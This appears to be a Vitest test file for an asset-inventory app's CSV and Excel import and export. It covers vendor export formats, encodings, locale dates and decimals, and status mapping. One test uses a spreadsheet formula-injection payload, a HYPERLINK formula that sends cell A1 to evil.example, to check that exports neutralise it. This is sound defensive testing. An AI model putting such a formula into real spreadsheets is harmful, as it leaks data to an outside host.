import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type Caller, type TestApp } from '../support/app.js';
import { DEMO, seedDemoWorld } from '../support/demo.js';

/**
 * Files shaped like the exports advisors bring (headers from each tool's documentation and
 * sample files, rows made here): Snipe-IT, Lansweeper, NinjaOne, Datto RMM, ScalePad, Intune and
 * Entra; a German Excel file in Windows-1252 with decimal commas and dotted dates; a US file in
 * Windows-1252; UK dates that could be read both ways; UTF-16; an Excel workbook.
 */

interface Report {
  status: string;
  rows: number;
  created: number;
  rejected: number;
  problems: { line: number; column: string; reason: string }[];
  reading: { format: string; encoding: string | null; encodingSource: string | null; delimiter: string | null; decimal: string; decimalSource: string; dateFormat: string | null; dateFormatSource: string | null } | null;
  sample: { line: number; cells: { column: string; field: string; raw: string; read: string; problem: string | null }[] }[];
  setAside: { column: string; field: string; used: string }[];
  unknownValues: { column: string; field: string; value: string; rows: number; choices: string[] }[];
  notes: { note: string; rows: number }[];
  ignoredColumns: string[];
}
interface System {
  name: string;
  assetTag: string | null;
  type: string;
  status: string;
  owner: string | null;
  vendorName: string | null;
  location: string | null;
  manufacturer: string | null;
  model: string | null;
  serial: string | null;
  purchaseDate: string | null;
  purchaseCost: number | null;
  warrantyEnd: string | null;
  endOfLife: string | null;
  replacementCost: number | null;
  notes: string | null;
}
interface ErrorBody {
  error: { code: string; message: string; details: { path: string; message: string }[] };
}

const FIXTURES = path.join(import.meta.dirname, '..', 'fixtures', 'imports');
const fixture = (name: string): Buffer => fs.readFileSync(path.join(FIXTURES, name));

let t: TestApp;
let advisor: Caller;

async function newClient(name: string, currency = 'USD'): Promise<string> {
  const res = await advisor.post<{ id: string }>('/api/clients', { name, sector: 'Manufacturing', employees: 80, currency });
  expect(res.status).toBe(201);
  return `/api/clients/${res.body.id}`;
}
function upload<T = Report>(base: string, body: Buffer | string, query = '', type = 'text/csv') {
  return advisor.request<T>('POST', `${base}/estate/import/systems${query}`, body, { 'content-type': type });
}
async function systems(base: string): Promise<System[]> {
  const res = await advisor.get<{ systems: System[] }>(`${base}/estate/systems?limit=200`);
  expect(res.status).toBe(200);
  return res.body.systems;
}
const byName = (list: System[], name: string): System => {
  const s = list.find((x) => x.name === name);
  if (!s) throw new Error(`no system ${name} in ${list.map((x) => x.name).join(', ')}`);
  return s;
};

beforeAll(async () => {
  t = await startTestApp();
  const demo = await seedDemoWorld(t.ctx, t.server);
  advisor = await demo.as(DEMO.advisor);
});
afterAll(async () => {
  await t.close();
});

describe('asset tools\' exports', () => {
  it('Snipe-IT\'s sample import file: Model is used and Model Number set aside, and the file imports', async () => {
    const base = await newClient('Snipe sample');
    const res = await upload(base, fixture('snipe-it-assets.csv'), '?fileName=assets-sample.csv');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ status: 'imported', rows: 3, created: 3 });
    expect(res.body.setAside).toContainEqual({ column: 'Model Number', field: 'model', used: 'Model' });
    const list = await systems(base);
    expect(byName(list, 'Front desk laptop')).toMatchObject({ assetTag: 'MT-0001', model: 'ThinkPad T14', manufacturer: 'Lenovo', vendorName: 'CDW', purchaseCost: 1199, replacementCost: 1199, notes: 'Keyboard replaced 2023' });
    expect(byName(list, 'Workshop PC').purchaseCost).toBe(1292.94);
    // A row with no name is called by its model and tag.
    expect(byName(list, 'U2723QE MT-0003').location).toBe('Bradford');
  });

  it('Snipe-IT\'s mock assets: old Mac line endings, two-digit US years, its status labels, warranty months', async () => {
    const base = await newClient('Snipe mock');
    const dry = await upload(base, fixture('snipe-it-mock-assets.csv'), '?dryRun=true');
    expect(dry.status, JSON.stringify(dry.body.problems)).toBe(200);
    expect(dry.body.reading).toMatchObject({ format: 'csv', encoding: 'UTF-8', delimiter: ',', dateFormat: 'MDY', dateFormatSource: 'guessed' });
    const date = dry.body.sample[0]!.cells.find((c) => c.field === 'purchaseDate')!;
    expect(date).toMatchObject({ column: 'Purchase Date', raw: '1/10/22', read: '10 January 2022' });
    expect(dry.body.setAside).toEqual(expect.arrayContaining([
      { column: 'Model Number', field: 'model', used: 'Model name' },
      { column: 'Username', field: 'owner', used: 'Full Name' },
      { column: 'Email', field: 'owner', used: 'Full Name' },
    ]));
    expect((await upload(base, fixture('snipe-it-mock-assets.csv'))).status).toBe(200);
    const list = await systems(base);
    expect(byName(list, 'Finance laptop')).toMatchObject({ status: 'spare', owner: 'Ada Brook', model: 'Latitude 5440', purchaseDate: '2022-01-10', warrantyEnd: '2025-01-10', purchaseCost: 1324.5, replacementCost: 1324.5 });
    expect(byName(list, 'Design workstation')).toMatchObject({ status: 'repair', purchaseDate: '2021-06-16', warrantyEnd: '2023-06-16' });
    expect(byName(list, 'Spare screen')).toMatchObject({ status: 'retired', purchaseDate: '2020-04-05' });
  });

  it('a Lansweeper report: device types, Warrantydate and State', async () => {
    const base = await newClient('Lansweeper');
    const res = await upload(base, fixture('lansweeper-assets.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.created).toBe(3);
    const list = await systems(base);
    expect(byName(list, 'LEEDS-FS01')).toMatchObject({ assetTag: '1042', type: 'hardware', status: 'active', manufacturer: 'HPE', serial: 'CZ2011ABCD', purchaseDate: '2020-03-02', warrantyEnd: '2025-03-01', owner: 'it@marten.example', notes: 'File server' });
    expect(byName(list, 'LEEDS-SW01')).toMatchObject({ type: 'hardware', warrantyEnd: '2026-06-14' });
    expect(byName(list, 'BRAD-PRN01').status).toBe('retired');
  });

  it('a NinjaOne device export with its asset fields', async () => {
    const base = await newClient('NinjaOne');
    const res = await upload(base, fixture('ninjaone-devices.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.setAside).toContainEqual({ column: 'Display Name', field: 'name', used: 'System Name' });
    const list = await systems(base);
    expect(byName(list, 'MT-REC-01')).toMatchObject({ type: 'hardware', status: 'active', serial: '5CG1234XYZ', purchaseCost: 899, replacementCost: 899, warrantyEnd: '2024-09-01', endOfLife: '2027-09-01', owner: 'MARTEN\\reception', location: 'Leeds' });
    expect(byName(list, 'MT-SAL-02').status).toBe('spare');
  });

  it('a Datto RMM device list', async () => {
    const base = await newClient('Datto');
    const res = await upload(base, fixture('datto-rmm-devices.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const list = await systems(base);
    expect(byName(list, 'MT-DC01')).toMatchObject({ type: 'hardware', location: 'Leeds', warrantyEnd: '2027-01-31', manufacturer: 'Dell Inc.', model: 'PowerEdge R450', owner: 'MARTEN\\administrator', notes: 'Domain controller' });
    expect(byName(list, 'MT-ESX01').serial).toBe('CN7789QWE');
  });

  it('a ScalePad Lifecycle Manager hardware export: replacement date and cost', async () => {
    const base = await newClient('ScalePad');
    const res = await upload(base, fixture('scalepad-hardware.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(byName(await systems(base), 'MT-NAS01')).toMatchObject({ type: 'hardware', warrantyEnd: '2024-12-01', endOfLife: '2026-12-01', replacementCost: 3200 });
  });

  it('Intune\'s device export and Entra\'s devices', async () => {
    const base = await newClient('Intune');
    const res = await upload(base, fixture('intune-devices.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const list = await systems(base);
    expect(byName(list, 'MT-INT-02')).toMatchObject({ manufacturer: 'Apple', model: 'iPhone 15', serial: 'F2LXK0QWERTY', owner: 'Sam Ode', status: 'active' });
    const entra = await upload(base, fixture('entra-devices.csv'));
    expect(entra.status, JSON.stringify(entra.body)).toBe(200);
    expect(byName(await systems(base), 'MT-ENT-01')).toMatchObject({ manufacturer: 'Microsoft Corporation', model: 'Surface Laptop 5', owner: 'li.chen@marten.example' });
  });
});

describe('files from any locale', () => {
  it('a German Excel file: Windows-1252, semicolons, 3.342,60 € and 10.01.2022', async () => {
    const base = await newClient('Rhein Werkzeuge', 'EUR');
    const dry = await upload(base, fixture('german-excel-cp1252.csv'), '?dryRun=true');
    expect(dry.status, JSON.stringify(dry.body.problems)).toBe(200);
    expect(dry.body.reading).toMatchObject({ encoding: 'windows-1252', encodingSource: 'detected', delimiter: ';', decimal: ',', decimalSource: 'guessed', dateFormat: 'DMY' });
    const cells = dry.body.sample[0]!.cells;
    expect(cells.find((c) => c.field === 'purchaseDate')).toMatchObject({ raw: '10.01.2022', read: '10 January 2022' });
    expect(cells.find((c) => c.field === 'purchaseCost')).toMatchObject({ raw: '3.342,60 €', read: '3342.6' });
    expect((await upload(base, fixture('german-excel-cp1252.csv'))).status).toBe(200);
    const list = await systems(base);
    expect(byName(list, 'Empfang PC')).toMatchObject({ vendorName: 'Müller Bürotechnik GmbH', location: 'Düsseldorf, Königsallee', purchaseDate: '2022-01-10', purchaseCost: 3342.6, warrantyEnd: '2025-01-10', replacementCost: 3342.6 });
    expect(byName(list, 'Geschäftsführung Notebook')).toMatchObject({ purchaseCost: 1899.99, status: 'spare' });
  });

  it('a US file in Windows-1252 keeps its accents, and says which encoding it read', async () => {
    const base = await newClient('Cafe');
    const res = await upload(base, fixture('us-excel-cp1252.csv'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.reading).toMatchObject({ encoding: 'windows-1252', encodingSource: 'detected' });
    expect(byName(await systems(base), 'Müller front desk')).toMatchObject({ owner: 'Zoë Núñez', vendorName: 'Café Supplies Inc.', purchaseCost: 1250 });
    // The person can say which encoding it is.
    const given = await upload(base, fixture('us-excel-cp1252.csv'), '?dryRun=true&encoding=windows-1252');
    expect(given.body.reading).toMatchObject({ encoding: 'windows-1252', encodingSource: 'given' });
  });

  it('refuses dates that could be day or month first, offering the formats, and reads them once the format is given', async () => {
    const base = await newClient('Harrogate');
    const res = await upload<ErrorBody>(base, fixture('uk-dates.csv'));
    expect(res.status).toBe(400);
    expect(res.body.error.details[0]).toMatchObject({ path: 'file' });
    expect(res.body.error.details[0]!.message).toMatch(/"03\/04\/2024" could be day first or month first; choose the file's date format \(DD\/MM\/YYYY.*or MM\/DD\/YYYY\)/);
    expect(await systems(base)).toEqual([]);
    const ok = await upload(base, fixture('uk-dates.csv'), '?dateFormat=DMY');
    expect(ok.status, JSON.stringify(ok.body)).toBe(200);
    expect(ok.body.reading).toMatchObject({ dateFormat: 'DMY', dateFormatSource: 'given' });
    expect(byName(await systems(base), 'Reception laptop')).toMatchObject({ purchaseDate: '2024-04-03', warrantyEnd: '2027-04-03' });
  });

  it('refuses a cell holding a NUL character, naming line and column, and writes nothing', async () => {
    const base = await newClient('NUL bytes');
    const file = 'Name,Purchase Cost\nGood box,10\nBad\u0000box,12\n';
    const dry = await upload(base, file, '?dryRun=true');
    expect(dry.status).toBe(200);
    expect(dry.body.status).toBe('rejected');
    expect(dry.body.problems).toHaveLength(1);
    expect(dry.body.problems[0]).toMatchObject({ line: 3, column: 'Name' });
    expect(dry.body.problems[0]!.reason).toMatch(/NUL character/);
    const real = await upload<ErrorBody>(base, file);
    expect(real.status).toBe(400);
    expect(real.body.error.details.map((d) => d.path)).toEqual(['line 3, column Name']);
    expect(await systems(base)).toEqual([]);
  });

  it('reads UTF-16 with its byte-order mark, and UTF-8 with one', async () => {
    const base = await newClient('Sixteen');
    const text = 'Name,Purchase Cost\nŁódź router,120.50\n';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const res = await upload(base, utf16);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.reading).toMatchObject({ encoding: 'UTF-16LE', encodingSource: 'bom' });
    const bom = await upload(base, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('Name,Purchase Cost\nKraków switch,80\n')]));
    expect(bom.body.reading).toMatchObject({ encoding: 'UTF-8', encodingSource: 'bom' });
    expect((await systems(base)).map((s) => s.name).sort()).toEqual(['Kraków switch', 'Łódź router']);
  });

  it('imports an Excel workbook: dates and numbers as the workbook holds them', async () => {
    const base = await newClient('Workbook');
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('Assets');
    sheet.addRow(['Asset Tag', 'Name', 'Purchase Date', 'Purchase Cost', 'Status']);
    sheet.addRow(['WB-1', 'Plotter', new Date(Date.UTC(2023, 0, 10)), 4321.5, 'Deployed']);
    sheet.addRow(['WB-2', 'Scanner', '2022-05-01', 250, 'In Stock']);
    const file = Buffer.from(await wb.xlsx.writeBuffer());
    const res = await upload(base, file, '?fileName=assets.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.reading).toMatchObject({ format: 'xlsx', sheet: 'Assets', decimalSource: 'workbook' });
    expect(byName(await systems(base), 'Plotter')).toMatchObject({ purchaseDate: '2023-01-10', purchaseCost: 4321.5, status: 'active' });
    expect(byName(await systems(base), 'Scanner').status).toBe('spare');
  });
});

describe('the client\'s words and replacement costs', () => {
  it('names a status it does not know, with the choices, until the client maps it', async () => {
    const base = await newClient('Mapping');
    const file = 'Name,Status,Type\nHost A,Quarantined,VMware Guest\nHost B,Quarantined,Windows\n';
    const dry = await upload(base, file, '?dryRun=true');
    expect(dry.body.status).toBe('rejected');
    expect(dry.body.unknownValues).toEqual(expect.arrayContaining([
      { column: 'Status', field: 'status', value: 'Quarantined', rows: 2, choices: ['planned', 'active', 'spare', 'repair', 'retired'] },
      { column: 'Type', field: 'type', value: 'VMware Guest', rows: 1, choices: ['hardware', 'software', 'saas', 'cloud'] },
    ]));
    expect(dry.body.problems[0]!.reason).toMatch(/"Quarantined" is not a status Triad knows: map it to planned, active, spare, repair, retired/);
    const bad = await advisor.put<ErrorBody>(`${base}/estate/import-settings/value-maps`, { kind: 'systems', field: 'status', value: 'Quarantined', target: 'broken' });
    expect(bad.status).toBe(400);
    expect((await advisor.put(`${base}/estate/import-settings/value-maps`, { kind: 'systems', field: 'status', value: 'Quarantined', target: 'repair' })).status).toBe(200);
    expect((await advisor.put(`${base}/estate/import-settings/value-maps`, { kind: 'systems', field: 'type', value: 'vmware-guest', target: 'cloud' })).status).toBe(200);
    const settings = await advisor.get<{ vocabularies: { field: string; custom: { value: string; target: string }[] }[] }>(`${base}/estate/import-settings`);
    expect(settings.body.vocabularies.find((v) => v.field === 'status')!.custom).toMatchObject([{ value: 'Quarantined', target: 'repair' }]);
    const res = await upload(base, file);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const list = await systems(base);
    expect(byName(list, 'Host A')).toMatchObject({ status: 'repair', type: 'cloud' });
  });

  it('a system with no purchase cost gets the client\'s replacement cost for its type, and the report says so', async () => {
    const base = await newClient('Defaults');
    expect((await advisor.put(`${base}/estate/import-settings/replacement-costs/hardware`, { amount: 1500 })).status).toBe(200);
    const res = await upload(base, 'Name,Purchase Cost,Replacement Cost\nWith cost,900,\nWithout cost,,\nOwn replacement,900,1100\n');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.notes).toEqual(expect.arrayContaining([
      { note: 'Replacement Cost taken from Purchase Cost', rows: 1 },
      { note: 'Replacement Cost set to the default for hardware systems', rows: 1 },
    ]));
    const list = await systems(base);
    expect([byName(list, 'With cost').replacementCost, byName(list, 'Without cost').replacementCost, byName(list, 'Own replacement').replacementCost]).toEqual([900, 1500, 1100]);
  });
});

describe('the budget\'s actuals import reads any locale too', () => {
  it('a German ledger: Windows-1252, semicolons, dotted dates and decimal commas, credits in parentheses', async () => {
    const base = await newClient('Rhein Buchhaltung', 'EUR');
    const ledger = 'Category;Vendor;Amount;Date\r\nSoftware;M\u00fcller Software GmbH;1.234,50 \u20ac;15.01.2024\r\nSoftware;B\u00fcro AG;(99,90);03.02.2024\r\n';
    const file = iconv.encode(ledger, 'windows-1252');
    const res = await advisor.request<Report>('POST', `${base}/budget/actuals/import?dryRun=true`, file, { 'content-type': 'text/csv' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.reading).toMatchObject({ encoding: 'windows-1252', decimal: ',', dateFormat: 'DMY' });
    const cells = res.body.sample[1]!.cells;
    expect(cells.find((c) => c.field === 'amount')).toMatchObject({ raw: '(99,90)', read: '-99.9' });
    expect(cells.find((c) => c.field === 'date')).toMatchObject({ raw: '03.02.2024', read: '3 February 2024' });
    expect(res.body.sample[0]!.cells.find((c) => c.field === 'vendor')!.raw).toBe('M\u00fcller Software GmbH');
  });
});

describe('exports for spreadsheets', () => {
  it('neutralises formula cells, starts CSV with a BOM, writes a workbook, and reads its own export back unchanged', async () => {
    const base = await newClient('Exports');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    expect((await advisor.post(`${base}/estate/systems`, { name: evil, type: 'hardware', notes: '+1+1', owner: '@admin' })).status).toBe(201);
    const csv = await advisor.download(`${base}/estate/export/systems`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const text = csv.body.toString('utf8');
    expect(text.startsWith('\uFEFFAsset Tag,Name,')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(text).toContain(",'@admin,");
    expect(text).toContain(",'+1+1");
    expect(text).not.toMatch(/,=HYPERLINK/);

    const again = await upload(base, csv.body, '?dryRun=true');
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    expect(again.body).toMatchObject({ created: 0, rejected: 0 });

    const xlsx = await advisor.download(`${base}/estate/export/systems?format=xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers['content-disposition']).toMatch(/systems-\d{4}-\d{2}-\d{2}\.xlsx/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    expect(sheet.getRow(1).getCell(2).value).toBe('Name');
    // In a workbook the text is a string cell, never a formula.
    expect(sheet.getRow(2).getCell(2).value).toBe(evil);
    expect(sheet.getRow(2).getCell(2).formula).toBeUndefined();
  });
});
